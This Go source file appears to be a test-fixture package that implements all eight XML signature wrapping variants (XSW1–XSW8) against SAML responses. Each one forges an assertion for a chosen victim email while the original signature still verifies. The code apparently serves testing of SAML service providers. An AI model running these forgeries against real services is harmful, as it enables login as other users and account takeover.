package samlfixture

import (
	"errors"
	"fmt"

	"github.com/beevik/etree"
)

// ErrShape is returned when a document is not the Response with one
// Assertion that an attack starts from.
var ErrShape = errors.New("samlfixture: not a Response with one Assertion")

// Wrapping is an XML signature wrapping attack: from a correctly signed
// response vouching for the attacker, it makes a document in which a
// copy vouches for victim while the signature still checks out over the
// original, hoping the service provider verifies one element and reads
// another.
type Wrapping struct {
	// Name is the SAML Raider name of the variant, XSW1 to XSW8.
	Name string
	// ResponseSigned says what the input must have signed: the Response
	// (XSW1, XSW2) or the Assertion (the others).
	ResponseSigned bool
	apply          func(resp, assertion *etree.Element, victim string)
}

// Apply wraps signed, changing the identity to victim.
func (w Wrapping) Apply(signed []byte, victim string) ([]byte, error) {
	d := etree.NewDocument()
	if err := d.ReadFromBytes(signed); err != nil {
		return nil, fmt.Errorf("reading document: %w", err)
	}
	resp := d.Root()
	assertions := resp.SelectElements("Assertion")
	if resp.Tag != "Response" || len(assertions) != 1 {
		return nil, ErrShape
	}
	w.apply(resp, assertions[0], victim)
	return writeDoc(d)
}

// Wrappings are the eight variants of the SAML Raider catalogue.
var Wrappings = []Wrapping{
	{Name: "XSW1", ResponseSigned: true, apply: xsw1},
	{Name: "XSW2", ResponseSigned: true, apply: xsw2},
	{Name: "XSW3", apply: xsw3},
	{Name: "XSW4", apply: xsw4},
	{Name: "XSW5", apply: xsw5},
	{Name: "XSW6", apply: xsw6},
	{Name: "XSW7", apply: xsw7},
	{Name: "XSW8", apply: xsw8},
}

// xsw1: an unsigned copy of the original Response goes inside the
// Signature; the outer Response, renamed, vouches for the victim.
func xsw1(resp, assertion *etree.Element, victim string) {
	original := unsignedCopy(resp)
	signature(resp).AddChild(original)
	rename(resp)
	SetIdentity(assertion, victim)
}

// xsw2: as xsw1, with the copy put before the Signature instead, as a
// detached signature would be.
func xsw2(resp, assertion *etree.Element, victim string) {
	original := unsignedCopy(resp)
	sig := signature(resp)
	resp.InsertChildAt(sig.Index(), original)
	rename(resp)
	SetIdentity(assertion, victim)
}

// xsw3: an unsigned, renamed copy vouching for the victim goes before
// the signed Assertion.
func xsw3(resp, assertion *etree.Element, victim string) {
	evil := unsignedCopy(assertion)
	rename(evil)
	SetIdentity(evil, victim)
	resp.InsertChildAt(assertion.Index(), evil)
}

// xsw4: the unsigned, renamed copy takes the Assertion's place and holds
// the signed original inside.
func xsw4(resp, assertion *etree.Element, victim string) {
	evil := unsignedCopy(assertion)
	rename(evil)
	SetIdentity(evil, victim)
	at := assertion.Index()
	resp.RemoveChildAt(at)
	evil.AddChild(assertion)
	resp.InsertChildAt(at, evil)
}

// xsw5: the signed Assertion itself is renamed and changed; an unsigned
// copy of the original goes at the end of the Response.
func xsw5(resp, assertion *etree.Element, victim string) {
	original := unsignedCopy(assertion)
	rename(assertion)
	SetIdentity(assertion, victim)
	resp.AddChild(original)
}

// xsw6: as xsw5, with the original copy inside the changed Assertion's
// Signature.
func xsw6(resp, assertion *etree.Element, victim string) {
	original := unsignedCopy(assertion)
	rename(assertion)
	SetIdentity(assertion, victim)
	signature(assertion).AddChild(original)
}

// xsw7: an Extensions element holding an unsigned copy vouching for the
// victim goes before the signed Assertion.
func xsw7(resp, assertion *etree.Element, victim string) {
	evil := unsignedCopy(assertion)
	SetIdentity(evil, victim)
	ext := etree.NewElement("samlp:Extensions")
	ext.AddChild(evil)
	at := 1
	if st := resp.SelectElement("Status"); st != nil {
		at = st.Index()
	}
	resp.InsertChildAt(at, ext)
}

// xsw8: the signed Assertion is changed in place; an unsigned copy of the
// original, same ID, sits in an Object inside its Signature.
func xsw8(resp, assertion *etree.Element, victim string) {
	original := unsignedCopy(assertion)
	SetIdentity(assertion, victim)
	obj := signature(assertion).CreateElement("ds:Object")
	obj.AddChild(original)
}

// SetIdentity makes the assertion el vouch for email: its NameID and its
// email attribute.
func SetIdentity(el *etree.Element, email string) {
	for _, n := range el.FindElements("./Subject/NameID") {
		for len(n.Child) > 0 {
			n.RemoveChildAt(0)
		}
		n.SetText(email)
	}
	for _, a := range el.FindElements(
		"./AttributeStatement/Attribute[@Name='email']/AttributeValue") {
		a.SetText(email)
	}
}

func unsignedCopy(el *etree.Element) *etree.Element {
	c := el.Copy()
	for _, s := range c.SelectElements("Signature") {
		c.RemoveChild(s)
	}
	return c
}

// signature returns el's Signature, making an empty one if it has none
// (a wrapping of an unsigned element then simply fails to verify).
func signature(el *etree.Element) *etree.Element {
	if s := el.SelectElement("Signature"); s != nil {
		return s
	}
	return el.CreateElement("ds:Signature")
}

func rename(el *etree.Element) {
	el.CreateAttr("ID", "_evil"+el.SelectAttrValue("ID", ""))
}
